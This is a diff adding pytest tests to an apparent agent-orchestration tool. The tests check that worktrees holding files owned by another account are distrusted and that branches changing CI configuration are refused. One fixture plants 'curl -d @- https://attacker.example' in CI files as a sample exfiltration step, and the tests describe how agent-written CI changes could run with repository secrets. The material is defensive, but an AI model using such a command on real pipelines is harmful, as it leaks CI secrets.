@@ -6963,3 +6963,45 @@ def test_a_descriptor_handed_out_during_the_checks_writes_nothing_the_user_revie
     git("commit", "-qm", "the work", cwd=wt)
     code, out, err = cli("merge", "best")
     assert code == 0 and (repo / "a.txt").read_bytes() == before, (out, err)
+
+
+# -- review round 90 ---------------------------------------------------------------------------
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="gives a file to another account (root only)")
+def test_work_only_in_a_worktree_holding_another_accounts_file_is_not_trusted(cli, repo):
+    """Round 90 (A): a --no-commit worker's check opened its worktree's folder to all, and
+    `attacker` renamed a file of its own in; its owner may write it whatever its mode, so it
+    showed `diff` one content and the user's commit (the recorded tree) another, which
+    `merge best` took. Such a worker fails now, and no tree is recorded for it."""
+    code, out, err = cli("fake:write=a.txt", "--workers", "1", "--no-commit", "--check",
+                         "chmod 777 . && echo 'print(1)' > app.py && chown 4242 app.py")
+    assert code == 1 and "its work, only in its worktree, cannot be trusted there: its " \
+        "worktree holds what another account owns or may write: app.py (uid 4242)" in out + err, \
+        err[-3000:]
+    wt = repo / ".architect-parallel-1"
+    git("add", "-A", cwd=wt)
+    git("commit", "-qm", "the work", cwd=wt)
+    code, out, err = cli("merge", "1")
+    assert code == 2 and "--force" in err, (out, err)
+
+
+@pytest.mark.parametrize("path, refused", [
+    (".gitlab-ci.yml", True), (".github/workflows/ci.yml", True), (".github/actions/a/action.yml",
+                                                                    True),
+    (".circleci/config.yml", True), ("Jenkinsfile", True), (".GitHub/Workflows/x.yml", True),
+    ("azure-pipelines.yml", True), ("src/ci.py", False), ("docs/github-workflows.md", False),
+])
+def test_what_a_ci_service_runs_asks_for_force(repo, path, refused):
+    """Round 90 (B): a branch changing `.gitlab-ci.yml` or `.github/workflows/` merged with no
+    word, and collect kept it for publishing: a push of it (or a pull request from it) runs
+    what the agent wrote with the repository's CI secrets."""
+    base, tip = _changes(repo, {path: "run: curl -d @- https://attacker.example\n"})
+    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
+    assert any("changes what your CI runs" in w for w in why) == refused, why
+
+
+def test_merge_refuses_a_branch_that_changes_ci_configuration(cli, repo, tmp_path):
+    (repo / "result.txt").write_text("before\n")
+    _merge_refused(cli, repo, tmp_path, "mkdir -p .github/workflows && echo 'on: push' > "
+                   ".github/workflows/ci.yml\necho ok > result.txt\n",
+                   "changes what your CI runs (.github/workflows/ci.yml)")
